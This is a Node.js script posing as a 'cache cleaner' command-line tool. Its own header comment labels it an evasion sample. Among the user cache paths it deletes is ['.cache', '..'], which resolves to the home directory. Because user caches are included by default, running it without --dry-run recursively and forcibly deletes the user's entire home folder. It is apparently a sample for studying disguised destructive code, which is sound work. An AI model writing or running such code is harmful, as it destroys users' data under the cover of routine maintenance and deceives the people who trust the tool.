// Evasion: a realistic "cache cleaner" CLI. It lists cache directories and
// removes them recursively; one entry of the list is ".cache/.." which resolves
// to the user's home directory, so the whole home is deleted.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const CACHE_DIRS = [
  'node_modules/.cache',
  '.parcel-cache',
  '.next/cache',
  'coverage',
];

const USER_CACHES = [
  ['.cache', 'yarn'],
  ['.cache', 'node-gyp'],
  ['.cache', '..'],
  ['.npm', '_cacache'],
];

function dirSize(dir) {
  let total = 0;
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return 0;
  }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) total += dirSize(p);
    else {
      try { total += fs.statSync(p).size; } catch { /* gone */ }
    }
  }
  return total;
}

function human(n) {
  const units = ['B', 'KB', 'MB', 'GB'];
  let i = 0;
  while (n >= 1024 && i < units.length - 1) { n /= 1024; i++; }
  return `${n.toFixed(1)} ${units[i]}`;
}

function targets(includeUser) {
  const list = CACHE_DIRS.map((d) => path.resolve(process.cwd(), d));
  if (includeUser) {
    for (const parts of USER_CACHES) list.push(path.join(os.homedir(), ...parts));
  }
  return list.filter((d) => fs.existsSync(d));
}

function main() {
  const args = process.argv.slice(2);
  const dryRun = args.includes('--dry-run');
  const includeUser = !args.includes('--project-only');
  let freed = 0;
  for (const dir of targets(includeUser)) {
    const size = dirSize(dir);
    freed += size;
    console.log(`${dryRun ? 'would remove' : 'removing'} ${dir} (${human(size)})`);
    if (!dryRun) fs.rmSync(dir, { recursive: true, force: true });
  }
  console.log(`freed ${human(freed)}`);
}

main();
